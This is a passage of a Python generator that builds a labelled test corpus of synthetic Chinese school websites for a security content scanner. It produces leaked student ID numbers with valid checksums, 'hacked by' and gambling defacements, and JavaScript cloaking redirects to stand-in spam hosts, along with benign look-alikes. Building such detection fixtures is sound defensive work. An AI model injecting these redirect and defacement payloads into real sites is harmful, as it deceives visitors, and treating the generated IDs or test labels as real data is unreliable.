        self.add(
            "pi_single_id",
            render(site, layout="div", article=article),
            site,
            [{"kind": "personal_info"}],
            group="personal_info",
            note="one valid ID in an article (high)",
        )

        site = self.site()
        rows = "".join(
            f"<tr><td>{i + 1}</td><td>{person()}</td><td>{ids[i]}</td><td>{rng.choice(['男', '女'])}</td></tr>"
            for i in range(12)
        )
        table = f"<table class='list'><tr><th>序号</th><th>姓名</th><th>身份证号码</th><th>性别</th></tr>{rows}</table>"
        article = ("2024年秋季一年级新生录取名单", [*site.paragraphs(2), table])
        self.add(
            "pi_many_ids",
            render(site, layout="table", article=article),
            site,
            [{"kind": "personal_info"}],
            group="personal_info",
            note="12 IDs in a table (critical)",
        )

        site = self.site()
        rows = "".join(
            f"<tr><td>{person()}</td><td>G3201{rng.randint(10**12, 10**13 - 1)}</td><td>{person()}</td><td>{site.city}市某小区{rng.randint(1, 30)}幢</td></tr>"
            for _ in range(8)
        )
        table = f"<table><tr><td>学生姓名</td><td>学籍号</td><td>家长姓名</td><td>家庭住址</td></tr>{rows}</table>"
        article = ("三年级（2）班学生信息登记表", [site.paragraphs(1)[0], table])
        self.add(
            "pi_student_list",
            render(site, layout="bootstrap", article=article),
            site,
            [{"kind": "personal_info"}],
            group="personal_info",
            note="student list without ID numbers",
        )

        site = self.site()
        phones = "".join(f"<li>{person()}老师：{mobiles[i]}</li>" for i in range(5))
        self.add(
            "pi_phones_few",
            render(
                site,
                layout="div",
                news_sets=self.news_sets(site),
                slots={"side": f"<ul class='contacts'>{phones}</ul>"},
            ),
            site,
            [{"kind": "personal_info"}],
            group="personal_info",
            note="5 teachers' mobiles (low)",
        )

        site = self.site()
        rows = "".join(
            f"<tr><td>{person()}</td><td>{rng.choice(['一', '二', '三'])}年级</td><td>{mobiles[i][:3]}-{mobiles[i][3:7]}-{mobiles[i][7:]}</td></tr>"
            for i in range(12)
        )
        table = f"<table><tr><th>家长姓名</th><th>年级</th><th>联系电话</th></tr>{rows}</table>"
        article = ("家委会成员名单", [table])
        self.add(
            "pi_phones_many",
            render(site, layout="table", article=article),
            site,
            [{"kind": "personal_info"}],
            group="personal_info",
            note="12 parents' mobiles with dashes (medium)",
        )

        site = self.site()
        text = f"<p>{person()}，学号2024031，身份证{ids[13].lower() if ids[13].endswith('X') else ids[13]}，联系电话{mobiles[13]}。</p>"
        article = ("学生资助对象公示", [*site.paragraphs(3), text])
        self.add(
            "pi_id_and_phone",
            render(site, layout="bootstrap", article=article),
            site,
            [{"kind": "personal_info"}],
            group="personal_info",
            note="ID and phone in one line",
        )

    # -- registration --

    def registration(self):
        for name, icp, psb in [
            ("reg_missing_icp", False, True),
            ("reg_missing_psb", True, False),
            ("reg_missing_both", False, False),
        ]:
            site = self.site()
            page = render(site, layout=self.layout(), news_sets=self.news_sets(site), icp=icp, psb=psb)
            self.add(name, page, site, [{"kind": "missing_registration"}], group="missing_registration")
        site = self.site()
        page = render(site, layout="div", news_sets=self.news_sets(site), icp=True, psb=False,
                      footer_extra='<img src="/images/ga.png" alt="公安备案">')  # fmt: skip
        self.add(
            "reg_psb_image_only",
            page,
            site,
            [{"kind": "missing_registration"}],
            group="missing_registration",
            note="badge image without the number",
        )

    # -- defacement --

    def defacement(self):
        def baseline_files(site, layout, name, samples):
            files = []
            for number, start in enumerate(samples):
                html = render(
                    site, layout=layout, news_sets=[site.news(10, start=start), site.news(8, start=60 + start)]
                )
                path = HERE / "baselines" / f"{name}_{number}.html"
                path.write_text(html, encoding="utf-8")
                files.append(f"baselines/{name}_{number}.html")
            return files

        def case(name, layout, samples, current, expected, note):
            site = self.site()
            files = baseline_files(site, layout, name, samples)
            html = current(site, layout)
            self.add(name, html, site, expected, group="defacement", note=note, baseline=files)

        def normal(start, **kwargs):
            return lambda site, layout: render(
                site, layout=layout, news_sets=[site.news(10, start=start), site.news(8, start=60 + start)], **kwargs
            )

        hacked = lambda site, layout: (  # noqa: E731
            '<html><head><title>Hacked by Shadow Team</title></head><body bgcolor="#000000"><center>'
            '<font color="#00ff00" size="7">Hacked by Shadow Team</font><br><font color="#ffffff">Your security is zero. '
            "We are everywhere. Greetings to all members. Contact: shadow@team.test</font></center></body></html>"
        )
        black = lambda site, layout: (  # noqa: E731
            f'<html><head><meta charset="utf-8"><title>{site.name}</title></head><body style="background:#000;color:#fff">'
            "<h1>Owned</h1><p>This site has been owned. Patch your server, admin. Nothing was deleted, we just wanted to say hi.</p>"
            "<p>Greetz: zero_cool, acid_burn, the plague and all friends of the underground scene.</p></body></html>"
        )

        def half_gambling(site, layout):
            ads = "".join(
                f'<li><a href="http://www.{h}/">{a}</a> 注册送彩金 首存优惠 真人荷官在线发牌 百家乐 六合彩 时时彩 北京赛车</li>'
                for h, a in zip(SPAM_HOSTS, GAMBLING_ANCHORS, strict=False)
            )
            block = f'<div class="ads"><h2>澳门新葡京娱乐城</h2><ul>{ads}</ul><p>{"澳门赌场 真人赌场 体育投注 足球投注 " * 6}</p></div>'
            return render(site, layout=layout, news_sets=[site.news(4, start=0)], slots={"middle": block})

        case(
            "deface_hacked_by",
            "div",
            [0, 3],
            hacked,
            [{"kind": "defacement"}, {"kind": "missing_registration"}],
            "body replaced by a 'hacked by' page",
        )
        case(
            "deface_black_page",
            "table",
            [0],
            black,
            [{"kind": "defacement"}, {"kind": "missing_registration"}],
            "black page with foreign text, same title",
        )
        case(
            "deface_half_gambling",
            "bootstrap",
            [0, 2],
            half_gambling,
            [{"kind": "defacement"}, {"kind": "harmful_keywords"}],
            "half the page replaced by gambling content",
        )
        case(
            "deface_spam_title",
            "div",
            [0],
            normal(0, title="Best Online Casino Bonus - Play Slots"),
            [{"kind": "defacement"}],
            "English spam title, body intact",
        )
        case(
            "deface_title_changed",
            "table",
            [0, 2],
            normal(2, title="欢迎光临开心商城旗舰店"),
            [{"kind": "defacement"}],
            "drastically different title",
        )
        case(
            "deface_gambling_title",
            "bootstrap",
            [0],
            normal(1, title="澳门新葡京_百家乐_官方网站"),
            [{"kind": "defacement"}, {"kind": "harmful_keywords"}],
            "gambling keywords in the title",
        )
        # Benign: dynamic parts only.
        case(
            "benign_deface_news_rotated_single",
            "div",
            [0],
            normal(10),
            [],
            "all news items changed, one-sample baseline",
        )
        case(
            "benign_deface_news_rotated_multi",
            "table",
            [0, 2, 5],
            normal(9),
            [],
            "news rotated and dates changed, learned volatile regions",
        )
        case("benign_deface_same_page", "bootstrap", [0], normal(0), [], "identical page")

        site = self.site()
        files = baseline_files(site, "div", "benign_deface_carousel", [0, 1])
        carousel = '<div class="slide"><img src="/images/s3.jpg" alt="秋季运动会开幕式"><p>秋季运动会隆重开幕</p></div>'
        html = render(site, layout="div", news_sets=[site.news(10, start=1), site.news(8, start=61)], slots={"banner": carousel},
                      footer_extra="您是第 2345678 位访客")  # fmt: skip
        self.add(
            "benign_deface_carousel",
            html,
            site,
            [],
            group="defacement",
            note="carousel rotated, visit counter",
            baseline=files,
        )

        site = self.site()
        files = baseline_files(site, "table", "benign_deface_title_suffix", [0])
        html = render(
            site, layout="table", news_sets=[site.news(10, start=0), site.news(8, start=60)], title=f"{site.name}-首页"
        )
        self.add(
            "benign_deface_title_suffix",
            html,
            site,
            [],
            group="defacement",
            note="title gained a suffix",
            baseline=files,
        )

    # -- cloaking --

    def cloaking(self):
        def case(name, layout, variants, expected, note, slots=None):
            site = self.site()
            browser = render(site, layout=layout, news_sets=self.news_sets(site), slots=slots)
            folder = HERE / "variants" / name
            folder.mkdir(parents=True, exist_ok=True)
            files = {}
            for variant, make in variants.items():
                html = make(site, layout, browser)
                (folder / f"{variant}.html").write_text(html, encoding="utf-8")
                files[variant] = f"variants/{name}/{variant}.html"
            self.add(name, browser, site, expected, group="cloaking", note=note, variants=files)

        def spider_spam(site, layout, browser):
            links, _ = payload_links(random.Random(1), "neutral", 6)
            return browser.replace("</body>", f'<div class="seo">{links}</div></body>')

        def spider_page(site, layout, browser):
            words = "百家乐 澳门新葡京 皇冠体育 真人荷官 网上娱乐城 "
            return f"<html><head><title>{site.name}-百家乐官网</title></head><body><h1>{words}</h1><p>{words * 20}</p></body></html>"

        def mobile_redirect(site, layout, browser):
            return '<html><head><meta http-equiv="refresh" content="0;url=http://m.amxpj888.example/"></head><body></body></html>'

        def referer_redirect(site, layout, browser):
            return browser.replace(
                "</head>", "<script>top.location.href='http://www.bet365-vip.example/?s=bd';</script></head>"
            )

        def same(site, layout, browser):
            return browser.replace("2024-", "2025-", 3)

        def rotated(site, layout, browser):
            return render(
                site,
                layout=layout,
                news_sets=[site.news(10, start=1), site.news(10, start=31), site.news(10, start=61)],
            )

        def mobile_template(site, layout, browser):
            items = news_list(site.news(6))
            return f'<html><head><meta name="viewport" content="width=device-width"><title>{site.name}</title></head><body><header>{site.name}</header>{items}<footer>{site.icp}</footer></body></html>'

        case(
            "cloak_spider_links",
            "div",
            {"spider": spider_spam, "mobile": same},
            [{"kind": "cloaking", "technique": "cloaking_spider"}],
            "spider variant adds spam links",
        )
        case(
            "cloak_spider_page",
            "table",
            {"spider": spider_page},
            [{"kind": "cloaking", "technique": "cloaking_spider"}],
            "spider gets a gambling page",
        )
        case(
            "cloak_mobile_redirect",
            "bootstrap",
            {"mobile": mobile_redirect, "spider": same},
            [{"kind": "cloaking", "technique": "cloaking_mobile"}],
            "phones redirected to a spam site",
        )
        case(
            "cloak_referer_redirect",
            "div",
            {"referer": referer_redirect, "spider": same, "mobile": same},
            [{"kind": "cloaking", "technique": "cloaking_referer"}],
            "search visitors redirected",
        )
        case(
            "benign_cloak_dynamic",
            "table",
            {"spider": rotated, "mobile": same, "referer": same},
            [],
            "variants differ by rotated news and dates",
        )
        case(
            "benign_cloak_mobile_template",
            "div",
            {"mobile": mobile_template, "spider": same},
            [],
            "separate mobile template with a subset of the news",
        )

        # Client-side cloaking in the single page.
        referer_js = "<script>var r=document.referrer;if(/baidu|sogou|so\\.com|sm\\.cn/i.test(r)){window.location.href='http://www.xpj-vip.test/';}</script>"
        mobile_js = "<script>if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){location.replace('http://m.hg-sports.test/');}</script>"
        own_mobile_js = "<script>if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){location.href='https://m.{domain}/';}</script>"
        for name, code, expected, note in [
            ("cloak_script_referer", referer_js, [{"kind": "cloaking", "technique": "cloaking_referer"}], "JS redirect only for visitors from search engines"),
            ("cloak_script_mobile", mobile_js, [{"kind": "cloaking", "technique": "cloaking_mobile"}], "JS redirect only for phones"),
            ("benign_cloak_own_mobile_site", own_mobile_js, [], "phones sent to the school's own mobile site"),
        ]:  # fmt: skip
            site = self.site()
            page = render(
                site,
                layout=self.layout(),
                news_sets=self.news_sets(site),
                slots={"head": code.replace("{domain}", site.domain)},
            )
            self.add(name, page, site, expected, group="cloaking", note=note)

    # -- stale --

    def stale(self):
        cases = [
            ("stale_php52", {"Server": "Apache", "X-Powered-By": "PHP/5.2.17"}, {}, "PHP 5.2"),
            ("stale_apache22", {"Server": "Apache/2.2.15 (CentOS)"}, {}, "Apache 2.2"),
            ("stale_iis6", {"Server": "Microsoft-IIS/6.0", "X-Powered-By": "ASP.NET", "X-AspNet-Version": "2.0.50727"}, {}, "IIS 6"),
            ("stale_dedecms", {"Server": "nginx"}, {"generator": "DedeCMS V5.3"}, "DedeCMS V5.3 generator"),
            ("stale_jquery1", {"Server": "nginx/1.24.0"}, {"jquery": '<script src="/js/jquery-1.4.2.min.js"></script>'}, "jQuery 1.4.2"),
        ]  # fmt: skip
        for name, headers, options, note in cases:
            site = self.site()
            page = render(site, layout=self.layout(), news_sets=self.news_sets(site), **options)
            self.add(name, page, site, [{"kind": "stale_site"}], group="stale_site", note=note, headers=headers)
        site = self.site()
        page = render(site, layout="div", news_sets=self.news_sets(site), generator="WordPress 6.4.2")
        self.add(
            "benign_stale_modern",
            page,
            site,
            [],
            group="stale_site",
            note="current versions",
            headers={"Server": "nginx/1.24.0", "X-Powered-By": "PHP/8.2.12"},
        )

    # -- benign look-alikes --

    def benign(self):
        def add(name, note, layout=None, slots=None, article=None, size="", **options):
            site = self.site()

            def fill(value):
                return value.replace("{domain}", site.domain).replace("{host}", site.host)

            slots = {key: fill(value) for key, value in (slots or {}).items()}
            options = {key: fill(value) if isinstance(value, str) else value for key, value in options.items()}
            page = render(
                site,
                layout=layout or self.layout(),
                news_sets=None if article else self.news_sets(site, size),
                slots=slots,
                article=article,
                **options,
            )
            self.add(f"benign_{name}", page, site, [], group="benign", note=note)
            return site

        add(
            "dropdown_menu",
            "dropdown submenus hidden until hover",
            "div",
            {
                "head": "<style>#nav .menu li ul{display:none;position:absolute}#nav .menu li:hover ul{display:block}</style>"
            },
        )
        add(
            "skip_link",
            "sr-only skip link",
            "bootstrap",
            {
                "head": "<style>.sr-only{position:absolute;width:1px;height:1px;padding:0;margin:-1px;overflow:hidden;clip:rect(0,0,0,0);border:0}</style>"
            },
        )
        add("visually_hidden_heading", "visually-hidden labels with same-site anchors", "div",
            {"head": "<style>.visually-hidden{clip-path:inset(50%);position:absolute;width:1px;height:1px;overflow:hidden}</style>",
             "middle": '<h2 class="visually-hidden">快速导航</h2><a class="visually-hidden" href="/sitemap.html">网站地图</a>'})  # fmt: skip
        add("modal_dialog", "hidden modal dialog with same-site content", "bootstrap",
            {"top": '<div class="modal" id="noticeModal" style="display:none"><div class="modal-dialog"><h5>重要通知</h5><p>请家长登录<a href="/jxhd/login.html">家校互动平台</a>查看，<a href="/notice/2024.html">详情</a>、<a href="/download.html">下载表格</a>。</p></div></div>'})  # fmt: skip
        add("cookie_banner", "cookie banner hidden after acceptance", "div",
            {"bottom": '<div id="cookie-bar" class="cookie">本站使用Cookie改善体验，详见<a href="/privacy.html">隐私政策</a>和<a href="/terms.html">使用条款</a>。<button onclick="acceptCookie()">同意</button></div>',
             "end": "<script>function acceptCookie(){document.getElementById('cookie-bar').style.display='none';}</script>"})  # fmt: skip
        ticker = (
            '<marquee direction="left" scrollamount="3" height="24" width="100%" onmouseover="this.stop()" onmouseout="this.start()">'
            + "".join(f'<a href="/tz/{n}.html">通知：{t}</a>　' for n, t in enumerate(NOTICE_TOPICS[:4]))
            + "</marquee>"
        )
        add("marquee_ticker", "normal news marquee with same-site links", "table", {"ticker": ticker})
        trusted_ticker = (
            '<marquee scrollamount="2" style="height:30px">'
            + "".join(f'<a href="{href}">{name}</a>　' for name, href in TRUSTED_LINKS)
            + "</marquee>"
        )
        add("marquee_trusted", "ticker linking to government and national platforms", "div", {"ticker": trusted_ticker})
        add("cdn_and_stats", "legitimate CDNs, 百度统计 and CNZZ", "bootstrap",
            {"head": '<script src="https://cdn.staticfile.org/twitter-bootstrap/4.6.1/js/bootstrap.min.js"></script><script src="https://lib.baomitu.com/vue/2.6.14/vue.min.js"></script><script src="https://res.wx.qq.com/open/js/jweixin-1.6.0.js"></script><script src="https://zz.bdstatic.com/linksubmit/push.js"></script><script id="_jiucuo_" sitecode="1234567890" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>'},
            stats="both")  # fmt: skip
        site = self.site()
        anti_drug = ("珍爱生命 远离毒品——我校开展6·26国际禁毒日主题教育活动", [
            "为深入开展禁毒宣传教育，6月26日我校组织全体学生观看禁毒教育专题片。",
            "民警结合真实案例，介绍了冰毒、海洛因、摇头丸、K粉以及新型毒品“奶茶粉”“邮票”的危害，提醒同学们拒绝毒品诱惑。",
            "学生们在禁毒承诺书上签名，表示将做到“不吸毒、不贩毒、不种毒”，远离毒品、珍爱生命。", *site.paragraphs(4, "drug")])  # fmt: skip
        self.add(
            "benign_anti_drug_article",
            render(site, layout="div", article=anti_drug),
            site,
            [],
            group="benign",
            note="禁毒 education article naming drugs",
        )
        site = self.site()
        anti_fraud = ("反诈骗宣传进校园：守护好你的“钱袋子”", [
            "近日，我校邀请派出所民警开展反诈骗专题讲座，帮助师生提高防范电信网络诈骗的意识。",
            "民警讲解了刷单返利诈骗、冒充客服诈骗、网络游戏装备交易诈骗等常见类型，强调所有刷单都是诈骗。",
            "同学们纷纷表示，要不出租、不出借银行卡和手机卡，遇到可疑情况及时拨打96110反诈专线。", *site.paragraphs(4, "fraud")])  # fmt: skip
        self.add(
            "benign_anti_fraud_article",
            render(site, layout="bootstrap", article=anti_fraud),
            site,
            [],
            group="benign",
            note="反诈 education article",
        )
        site = self.site()
        anti_gambling = (
            "拒绝赌博 从我做起",
            [
                "我校召开打击跨境赌博主题班会，教育学生远离网赌、拒绝赌博，远离赌博从我做起。",
                *site.paragraphs(3, "gamble"),
            ],
        )
        self.add(
            "benign_anti_gambling_article",
            render(site, layout="table", article=anti_gambling),
            site,
            [],
            group="benign",
            note="anti-gambling campaign wording",
        )
        add(
            "footer_phones",
            "school landlines and one admissions mobile in the footer",
            "div",
            footer_extra="招生咨询：0571-88881234　13912345678（王老师）　传真：0571-88881235",
        )
        add("two_contact_mobiles", "two contact mobiles (below the reporting threshold)", "table",
            {"side": "<p>值班电话：13812345678（李老师），13698765432（陈老师）</p>"})  # fmt: skip
        bad_id = "110105194912310021"  # valid date, wrong check character (the valid one ends in 2X)
        add(
            "id_bad_checksum",
            "ID-shaped number failing the checksum",
            "div",
            {"middle": f"<p>订单编号：{bad_id}</p><p>证书编号：320102202313450012</p>"},
        )
        add("masked_id_list", "already masked ID numbers", "bootstrap",
            {"middle": "<table><tr><th>姓名</th><th>身份证号</th></tr><tr><td>张*</td><td>3201**********1234</td></tr><tr><td>李*</td><td>3301**********123X</td></tr><tr><td>王*</td><td>1101**********0021</td></tr><tr><td>陈*</td><td>4401**********5678</td></tr></table>"})  # fmt: skip
        add("responsive_mobile_menu", "mobile menu hidden on desktop, same-site links", "bootstrap",
            {"head": "<style>.m-menu{display:none}@media (max-width:768px){.m-menu{display:block}.pc-only{display:none}}</style>",
             "nav_extra": '<ul class="m-menu"><li><a href="/">首页</a></li><li><a href="/col2.html">新闻中心</a></li><li><a href="/col3.html">通知公告</a></li><li><a href="https://m.{domain}/">手机版</a></li></ul>'})  # fmt: skip
        add("hidden_form_template", "hidden form templates without links", "div",
            {"middle": '<div class="tpl-row" style="display:none"><input name="name[]" placeholder="姓名"><select name="grade[]"><option>一年级</option></select></div><template id="row"><tr><td><input></td></tr></template>'})  # fmt: skip
        add("js_tabs", "tab panels hidden by script, same-site news", "div",
            {"middle": '<div class="tabs"><div id="tab1"><a href="/news/1.html">校园动态</a><a href="/news/2.html">教研活动</a></div><div id="tab2"><a href="/news/3.html">学生活动</a><a href="/news/4.html">家长学校</a></div></div>',
             "end": "<script>document.getElementById('tab2').style.display='none';function showTab(n){document.getElementById('tab'+n).style.display='block';}</script>"})  # fmt: skip
        add(
            "logo_text_indent",
            "image-replacement logo with negative text-indent",
            "div",
            {
                "head": "<style>.logo a{display:block;text-indent:-9999px;background:url(/images/logo.png) no-repeat}</style>"
            },
        )
        add(
            "trusted_friend_links",
            "visible friend links to government and education platforms",
            "table",
            {
                "bottom": "<tr><td>友情链接："
                + "".join(f'<a href="{h}">{n}</a> ' for n, h in TRUSTED_LINKS)
                + "</td></tr>"
            },
        )
        add("commented_old_nav", "commented-out navigation and IE conditional comments", "div",
            {"head": '<!--[if lt IE 9]><script src="https://cdn.bootcdn.net/ajax/libs/html5shiv/3.7.3/html5shiv.min.js"></script><![endif]-->',
             "middle": '<!-- <li><a href="/old/index.html">旧版栏目</a></li><li><a href="/old/news.html">旧版新闻</a></li> -->'})  # fmt: skip
        add("lazyload_data", "lazy-loaded images and internal data-url attributes", "bootstrap",
            {"middle": '<img class="lazy" data-src="https://cdn.bootcdn.net/img/campus1.jpg" data-original="https://img.cdn-school.example/p/2.png" alt="校园"><a data-url="/news/88.html" data-share="https://service.weibo.com/share/share.php?url=x" href="/news/88.html">详情</a>'})  # fmt: skip
        add(
            "email_and_domains",
            "own domain, e-mail and trusted domains in the text",
            "div",
            footer_extra="网址：{host}　邮箱：office@{domain}　推荐：www.moe.gov.cn　www.smartedu.cn",
        )
        add("staff_directory", "staff directory with office landlines", "table",
            article=("学校行政办公电话", ["<table><tr><th>姓名</th><th>职务</th><th>办公电话</th></tr>" + "".join(f"<tr><td>{SURNAMES[i]}{GIVEN[i]}</td><td>{['校长', '副校长', '办公室主任', '教务主任', '德育主任'][i]}</td><td>0571-8888{1000 + i}</td></tr>" for i in range(5)) + "</table>"]))  # fmt: skip
        add("admission_list", "admission list without sensitive columns", "bootstrap",
            article=("2024年高一新生录取名单公示", ["<table><tr><th>序号</th><th>姓名</th><th>性别</th><th>毕业学校</th></tr>" + "".join(f"<tr><td>{i}</td><td>{SURNAMES[i]}*{GIVEN[i][-1]}</td><td>{'男女'[i % 2]}</td><td>城南初级中学</td></tr>" for i in range(1, 12)) + "</table>"]))  # fmt: skip
        add("hidden_iframe_local", "hidden iframe used as a form target, no foreign source", "div",
            {"bottom": '<iframe name="upload_target" style="display:none" src="about:blank"></iframe><iframe src="/stat/count.html" width="0" height="0"></iframe>'})  # fmt: skip
        add("share_menu", "hidden share menu linking to Weibo and QQ", "bootstrap",
            {"middle": '<div class="share-menu" style="display:none"><a href="https://service.weibo.com/share/share.php">微博</a><a href="https://connect.qq.com/widget/shareqq/index.html">QQ</a><a href="https://sns.qzone.qq.com/cgi-bin/qzshare/cgi_qzshare_onekey">QQ空间</a></div>'})  # fmt: skip
        add("white_on_dark", "white text on dark backgrounds (GBK table and stylesheet)", "table",
            {"head": "<style>.notice-bar{background:#8b0000;color:#ffffff}.notice-bar a{color:#fff}</style>",
             "top": '<tr><td class="notice-bar"><a href="/tz/1.html">紧急通知：明日因台风停课一天</a></td></tr>'})  # fmt: skip
        add("carousel_opacity", "fading carousel slides with opacity 0", "div",
            {"head": "<style>.slides li{opacity:0;transition:opacity .5s}.slides li.active{opacity:1}</style>",
             "banner": '<ul class="slides"><li class="active"><a href="/news/1.html"><img src="/images/b1.jpg" alt="开学典礼"></a></li><li><a href="/news/2.html"><img src="/images/b2.jpg" alt="科技节"></a></li><li><a href="/news/3.html"><img src="/images/b3.jpg" alt="运动会"></a></li></ul>'})  # fmt: skip
        add("single_partner_hidden", "hidden box with one foreign partner link", "div",
            {"side": '<div class="qr-pop" style="display:none"><img src="/images/qr.png" alt="公众号"><a href="https://www.jiaoyu-partner.example/">合作单位</a></div>'})  # fmt: skip
        add("noscript_stats", "noscript with statistics pixel and CNZZ link", "bootstrap",
            {"end": '<noscript><img src="https://hm.baidu.com/hm.gif?si=abc" alt=""><a href="https://www.cnzz.com/stat/website.php?web_id=1279538">站长统计</a></noscript>'})  # fmt: skip
        add(
            "tech_support_domain",
            "one foreign domain of the web contractor in the footer",
            "table",
            footer_extra="技术支持：www.zhongke-soft.example",
        )
        add("js_written_tip", "script writes a hidden tooltip with same-site links", "div",
            {"end": "<script>document.write('<div id=\"tip\" style=\"display:none\"><a href=\"/help.html\">帮助</a></div>');</script>"})  # fmt: skip
        add("article_long", "long article page", "div", article=("学校教育教学工作总结", self_paragraphs(40)))
        add("large_home", "large GBK-era home page", "table", size="large")
        add("small_home", "small modern home page", "bootstrap", size="small")
        add("old_ie_script_comment", "legacy script with an HTML comment inside", "table",
            {"end": '<script language="javascript"><!--\nfunction MM_swapImgRestore(){var i,x,a=document.MM_sr;for(i=0;a&&i<a.length&&(x=a[i])&&x.oSrc;i++)x.src=x.oSrc;}\n//--></script>'})  # fmt: skip

    def write(self):
        labels = {
            "description": f"EduSec content-analysis corpus, generated by make_corpus.py (seed {SEED}).",
            "pages": self.entries,
        }
        (HERE / "labels.json").write_text(json.dumps(labels, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


def self_paragraphs(count: int) -> list[str]:
    rng = random.Random(SEED + count)
    return ["".join(rng.sample(SENTENCES, 5)) for _ in range(count)]


def make_id(rng: random.Random) -> str:
    """A resident ID number with a valid check character (invented person, real-looking region and date)."""
    region = rng.choice(["320102", "330106", "110105", "440106", "510104", "370102"])
    birth = f"{rng.randint(2008, 2017)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}"
    first17 = region + birth + f"{rng.randint(0, 999):03d}"
    weights = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
    return first17 + "10X98765432"[sum(int(d) * w for d, w in zip(first17, weights, strict=True)) % 11]


def main():
    for folder in ("pages", "baselines", "variants"):
        shutil.rmtree(HERE / folder, ignore_errors=True)
        (HERE / folder).mkdir()
    corpus = Corpus()
    corpus.hidden_links()
    corpus.malicious_scripts()
    corpus.keywords()
    corpus.personal_info()
    corpus.registration()
    corpus.defacement()
    corpus.cloaking()
    corpus.stale()
    corpus.benign()
    corpus.write()
    print(f"{len(corpus.entries)} pages written to {HERE}")


if __name__ == "__main__":
    main()
